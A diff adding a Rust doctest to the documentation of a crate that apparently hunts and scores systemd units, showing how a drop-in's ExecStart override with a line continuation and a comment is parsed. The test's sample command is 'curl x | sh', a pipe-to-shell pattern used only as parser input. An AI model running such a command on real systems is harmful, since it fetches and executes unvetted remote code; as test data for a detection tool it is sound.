@@ -8,6 +8,19 @@
 //! generator search paths of the system and user managers. `dpkg` and `rpm` read the package
 //! databases offline (`packages` asks both); `score` judges units with reasons; `hunt` puts it
 //! together for every manager of a root.
+//!
+//! ```
+//! use unithunt_hunt::unit::{parse, parse_exec, Unit};
+//! // A continuation, a comment inside it, and a command line with quotes and a `-` prefix; a
+//! // drop-in that clears the list and sets its own.
+//! let fragment = parse("[Service]\nExecStart=/bin/true\n");
+//! let dropin = parse("[Service]\nExecStart=\nExecStart=-/bin/sh -c \\\n# still a comment\n 'curl x | sh'\n");
+//! let unit = Unit::new(&fragment, &[&dropin]);
+//! let exec = &unit.list("Service", "ExecStart")[0].value;
+//! let cmd = &parse_exec(exec).unwrap()[0];
+//! assert_eq!(cmd.path, "/bin/sh");
+//! assert_eq!(cmd.argv, ["/bin/sh", "-c", "curl x | sh"]);
+//! ```
 
 pub mod bdb;
 pub mod dpkg;
